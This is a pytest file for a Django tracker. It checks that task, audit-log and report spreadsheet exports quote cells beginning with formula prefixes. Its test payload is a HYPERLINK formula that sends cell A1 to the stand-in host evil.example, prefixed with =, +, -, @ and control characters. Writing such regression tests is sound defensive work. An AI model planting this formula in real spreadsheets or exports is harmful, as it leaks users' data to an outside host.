"""Text that a spreadsheet would run as a formula comes out inert in every
export: the task list's (XLSX and CSV, page and API), the audit log's (XLSX
and CSV) and the report workbook (XLSX; reports have no CSV). Each prefix the
issue names, and a control character in front of one."""

import csv
import io
import json
from pathlib import Path

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from accounts import services as account_services
from audit.security import auditor_group_sync
from config.spreadsheet import neutralise
from reports.render import render
from tests.factories import UserFactory, make_task

PAYLOAD = 'HYPERLINK("http://evil.example/?x="&A1,"点我")'
PREFIXES = ["=", "+", "-", "@", "\t", "\r", "\x01=", "\x1f+", "\x02@"]
REPORT_SNAPSHOT = Path(__file__).parents[1] / "reports" / "data" / "snapshot_week.json"


def _hostile(prefix: str) -> str:
    return prefix + PAYLOAD


def _expected(prefix: str) -> str:
    """The cell as a spreadsheet must show it: the control characters gone,
    a quote in front, the rest as typed."""
    return "'" + prefix.lstrip("\x01\x02\x1f") + PAYLOAD


def _in_xlsx(prefix: str) -> str:
    # XML reads a carriage return back as a line feed; the quote is what counts.
    return _expected(prefix).replace("\r", "\n")


def _inert(value) -> bool:
    return isinstance(value, str) and value.startswith("'")


def test_the_helper_quotes_each_prefix():
    for prefix in PREFIXES:
        assert neutralise(_hostile(prefix)) == _expected(prefix)
    assert neutralise("川渝合作=共建") == "川渝合作=共建"
    assert neutralise(42) == 42


@pytest.fixture
def hostile_tasks(initiative):
    return {
        prefix: make_task(initiative, code=f"EVIL-{n}", title=_hostile(prefix))
        for n, prefix in enumerate(PREFIXES)
    }


def _titles_from_xlsx(response, column=2):
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [row[column - 1] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    return {cell.value for cell in cells}


def _csv(response):
    assert response.status_code == 200
    raw = (
        response.content
        if not response.streaming
        else b"".join(response.streaming_content)
    )
    assert raw.startswith("\ufeff".encode())
    text = raw.decode("utf-8-sig")
    assert "\x01" not in text and "\x02" not in text and "\x1f" not in text
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/tasks/export.xlsx", "/api/v1/tasks/export.xlsx"])
def test_task_export_xlsx_is_inert(client, hostile_tasks, sc_leader, url):
    client.force_login(sc_leader)
    titles = _titles_from_xlsx(client.get(url))
    for prefix in hostile_tasks:
        assert _in_xlsx(prefix) in titles, repr(prefix)
    assert all(_inert(t) for t in titles)


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["/tasks/export.csv", "/api/v1/tasks/export.csv"])
def test_task_export_csv_is_inert(client, hostile_tasks, sc_leader, url):
    client.force_login(sc_leader)
    rows = _csv(client.get(url))
    titles = {row[1] for row in rows[1:]}
    assert titles == {_expected(prefix) for prefix in PREFIXES}
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in rows[1:]
        for cell in row
    )


@pytest.mark.django_db
def test_task_export_milestones_and_owners_are_inert_too(client, initiative, sc_leader):
    from tracker import services

    task = make_task(initiative, code="EVIL-M", title="正常事项")
    services.milestone_create(task=task, title="=1+1", due_date=task.due_date)
    services.indicator_create(task=task, name="@SUM(A1)", unit="-1")
    client.force_login(sc_leader)
    book = openpyxl.load_workbook(io.BytesIO(client.get("/tasks/export.xlsx").content))
    values = [
        c.value
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert "'=1+1" in values and "'@SUM(A1)" in values and "'-1" in values
    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)


@pytest.fixture
def auditor_client(chongqing):
    user = UserFactory(username="cq_audit_x", is_staff=True)
    account_services.membership_grant(user=user, party=chongqing, role="auditor")
    auditor_group_sync()
    client = Client()
    client.force_login(user)
    return client


def _audit(client, fmt):
    return client.get(
        reverse("admin:audit_auditlog_export", args=[fmt]),
        {"model": "tracker.task", "q": "HYPERLINK"},
    )


@pytest.mark.django_db
def test_audit_export_csv_is_inert(hostile_tasks, auditor_client):
    rows = _csv(_audit(auditor_client, "csv"))
    header, data = rows[0], rows[1:]
    names = {row[header.index("对象")] for row in data}
    assert names == {_expected(prefix) for prefix in PREFIXES}


@pytest.mark.django_db
def test_audit_export_xlsx_is_inert(hostile_tasks, auditor_client):
    response = _audit(auditor_client, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    column = header.index("对象") + 1
    cells = [sheet.cell(row=r, column=column) for r in range(2, sheet.max_row + 1)]
    assert {c.value for c in cells} == {_in_xlsx(prefix) for prefix in PREFIXES}
    assert all(c.data_type == "s" for c in cells)


@pytest.mark.parametrize("prefix", PREFIXES)
def test_report_workbook_is_inert(prefix):
    snapshot = json.loads(REPORT_SNAPSHOT.read_text())
    snapshot["tasks"][0]["title"] = _hostile(prefix)
    snapshot["by_work_stream"][0]["name"] = _hostile(prefix)
    workbook = openpyxl.load_workbook(
        io.BytesIO(render("xlsx", snapshot, language="en"))
    )
    cell = workbook["Tasks"].cell(row=2, column=2)
    assert cell.value == _in_xlsx(prefix) and cell.data_type == "s"
    texts = [
        c.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str)
    ]
    assert _in_xlsx(prefix) in texts
    assert not any(t.startswith(("=", "+", "@", "\t", "\r")) for t in texts)
